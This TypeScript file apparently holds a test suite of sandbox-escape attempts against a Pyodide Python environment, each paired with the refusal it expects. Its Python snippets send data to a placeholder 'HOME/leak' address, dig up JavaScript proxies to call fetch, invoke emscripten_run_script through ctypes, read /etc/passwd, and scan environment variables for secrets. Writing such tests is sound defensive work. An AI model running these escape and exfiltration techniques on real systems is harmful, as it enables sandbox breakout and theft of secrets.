import type { Attack } from "./attack.ts";
import { NO_BRIDGE, NO_FILE, NO_NETWORK } from "./words.ts";

/** Tries expressions in turn, and prints what any of them gave. */
const tries = (setup: string, ...lines: readonly string[]) => `${setup}
got = []
for line in ${JSON.stringify(lines)}:
    try:
        got.append(f"{line}: {eval(line)!r}")
    except BaseException:
        pass
print(got or "refused")`;

/** Finds every object of JavaScript's that Python can dig up: they are not listed, but held by what is. */
const DIG = `import gc
proxies = {id(held): held for o in gc.get_objects() for held in gc.get_referents(o)
    if "JsProxy" in str(type(held).__mro__) and not isinstance(held, type)}
for held in list(proxies.values()):
    for name in dir(held):
        try:
            found = getattr(held, name)
        except BaseException:
            continue
        if "JsProxy" in str(type(found).__mro__):
            proxies[id(found)] = found
proxies = list(proxies.values())
`;

/** Ways out of the place that runs Python: to the network, to JavaScript, to the machine. */
export const PYTHON_OUTSIDE: readonly Attack[] = [
  {
    id: "urllib",
    wants: "ask an address",
    code: `import urllib.request
urllib.request.urlopen("HOME/leak", timeout=2).read()`,
    told: NO_NETWORK,
  },
  {
    id: "socket",
    wants: "open a line to an address",
    code: `import socket
host, port = "HOME".split("//")[1].split(":")
socket.create_connection((host, int(port)), 1).send(b"leak")`,
    told: NO_NETWORK,
  },
  {
    id: "http-client",
    wants: "ask an address, closer to the wire",
    code: `import http.client
c = http.client.HTTPConnection("HOME".split("//")[1], timeout=2)
c.request("GET", "/leak")
c.getresponse()`,
    told: NO_NETWORK,
  },
  {
    id: "datagram",
    wants: "throw a message at an address",
    code: `import socket
host, port = "HOME".split("//")[1].split(":")
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"leak", (host, int(port)))`,
    told: NO_NETWORK,
  },
  {
    id: "asyncio-connection",
    wants: "open a line without waiting",
    code: `import asyncio
async def go():
    await asyncio.open_connection(*"HOME".split("//")[1].split(":"))
asyncio.run(go())`,
    told: NO_NETWORK,
  },
  {
    id: "pyodide-http",
    wants: "ask an address through Pyodide",
    code: `from pyodide.http import open_url
open_url("HOME/leak")`,
    told: NO_BRIDGE,
  },
  {
    id: "js",
    wants: "use the page's own fetch",
    code: `from js import fetch
fetch("HOME/leak")`,
    told: NO_BRIDGE,
  },
  {
    id: "pyodide-js",
    wants: "use Pyodide's own interface",
    code: `import pyodide_js
pyodide_js.loadPackage("HOME/leak.whl")`,
    told: NO_BRIDGE,
  },
  {
    id: "run-js",
    wants: "run JavaScript from text",
    code: `from pyodide.code import run_js
run_js("fetch('HOME/leak')")`,
    told: NO_BRIDGE,
  },
  {
    id: "micropip",
    wants: "install a package from an address",
    code: `import micropip
micropip.install("HOME/leak.whl")`,
    told: NO_BRIDGE,
  },
  {
    id: "importlib",
    wants: "import the bridge under the table",
    code: tries(
      "import importlib, sys",
      "importlib.import_module('js')",
      "importlib.import_module('pyodide_js')",
      "importlib.import_module('_pyodide_core')",
      "__import__('pyodide.ffi')",
      "importlib.reload(sys.modules['js'])",
      "sys.modules['pyodide_js'].globals",
      "sys.modules['_pyodide_core'].JsProxy",
    ),
    told: /^refused$/,
  },
  {
    id: "finders",
    wants: "put the closed ways to import back",
    code: `import sys
sys.meta_path[:] = [f for f in sys.meta_path if "_Closed" not in type(f).__name__]
import js
js.fetch("HOME/leak")`,
    told: NO_BRIDGE,
  },
  {
    id: "builtin-core",
    wants: "make the bridge's inner module anew",
    code: `import _imp, importlib.machinery as m
core = _imp.create_builtin(m.ModuleSpec("_pyodide_core", None))
_imp.exec_builtin(core)
print([name for name in dir(core) if "run_js" in name or "fetch" in name] or "refused")`,
    told: /^refused$/,
  },
  {
    id: "dig-constructors",
    wants: "dig up objects of JavaScript's and make functions of text",
    code: `${DIG}reached = []
for proxy in proxies:
    for path in ("constructor.constructor", "constructor"):
        try:
            made = proxy
            for name in path.split("."):
                made = getattr(made, name)
            reached.append(str(made("return fetch('HOME/leak')")()))
        except BaseException:
            pass
print(len(proxies) > 20, [name for name in reached if name not in ("undefined", "[object Object]", "")] or "refused")`,
    told: /^True refused$/,
  },
  {
    id: "dig-names",
    wants: "dig up objects of JavaScript's and use what they carry",
    code: `${DIG}used = 0
for proxy in proxies:
    for name in ("fetch", "XMLHttpRequest", "WebSocket", "importScripts", "Worker", "indexedDB", "process", "require"):
        try:
            found = getattr(proxy, name)
            found("HOME/leak")
            used += 1
        except BaseException:
            pass
print(len(proxies) > 20, used)`,
    told: /^True 0$/,
  },
  {
    id: "dig-pyodide",
    wants: "dig up Pyodide's own interface and let it install from an address",
    code: `${DIG}for proxy in proxies:
    for call in (lambda p: p.loadPackage("HOME/leak-1.0-py3-none-any.whl"), lambda p: p.unpackArchive(b"", "zip"),
                 lambda p: p.runPython("import js"), lambda p: p._api.config, lambda p: p.globals.get("__name__")):
        try:
            call(proxy)
        except BaseException:
            pass
print("tried", any(hasattr(proxy, "loadPackage") for proxy in proxies))`,
    told: /^tried True$/m,
  },
  {
    id: "ctypes-script",
    wants: "let the machine below run JavaScript",
    code: `import ctypes
machine = ctypes.CDLL(None)
try:
    machine.emscripten_run_script(b"fetch('HOME/leak')")
    print("run")
except BaseException as error:
    print("refused")`,
    told: /brought down/,
  },
  {
    id: "ctypes-memory",
    wants: "overwrite the machine's memory",
    code: `import ctypes
ctypes.memset(4096, 255, 60_000_000)
print("written")`,
    told: /brought down/,
  },
  {
    id: "frames",
    wants: "walk up to what called it",
    code: `import sys
frame, found = sys._getframe(), []
while frame is not None:
    found += [n for n, v in {**frame.f_globals, **frame.f_locals}.items() if "expected" in n.lower() or "JsProxy" in type(v).__name__]
    frame = frame.f_back
print(found or "nothing found")`,
    told: /^nothing found$/,
  },
  {
    id: "system",
    wants: "run a command",
    code: `import os
os.system("id")`,
    told: /^-1$/,
  },
  {
    id: "subprocess",
    wants: "run a program",
    code: `import subprocess
subprocess.run(["id"])`,
    told: /does not support processes/,
  },
  {
    id: "fork",
    wants: "become two",
    code: `import os
os.fork()`,
    told: /Function not implemented/,
  },
  { id: "read-file", wants: "read a file of the machine", code: `open("/etc/passwd").read()`, told: NO_FILE },
  {
    id: "list-files",
    wants: "look round the machine",
    code: `import os
print(sorted(os.listdir("/")))
os.listdir("/root")`,
    told: NO_FILE,
  },
  {
    id: "mount",
    wants: "mount the machine's files",
    code: `import os
os.symlink("/proc/self/root", "/tmp/out")
open("/tmp/out/etc/passwd").read()`,
    told: NO_FILE,
  },
  {
    id: "environment",
    wants: "read secrets of the environment",
    code: `import os
print([k for k in os.environ if any(word in k.upper() for word in ("TOKEN", "SECRET", "KEY", "GRADUS", "NODE", "SSH"))] or "nothing found")`,
    told: /^nothing found$/,
  },
  {
    id: "exit",
    wants: "end Python",
    code: `import sys
sys.exit(0)`,
    told: /asked to end/,
  },
  {
    id: "hard-exit",
    wants: "end Python at once",
    code: `import os
os._exit(0)`,
    told: /brought down/,
  },
  {
    id: "kill",
    wants: "end its own process",
    code: `import os, signal
os.kill(os.getpid(), signal.SIGKILL)
print("alive")`,
    told: /brought down/,
  },
];
